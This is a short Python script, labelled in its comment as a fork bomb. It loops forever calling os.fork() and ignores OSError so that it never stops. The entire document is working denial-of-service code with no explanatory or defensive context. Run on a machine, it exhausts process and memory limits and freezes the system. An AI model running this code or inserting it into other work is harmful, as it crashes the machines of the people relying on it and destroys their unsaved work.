# A fork bomb: every process forks for ever, ignoring failures.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
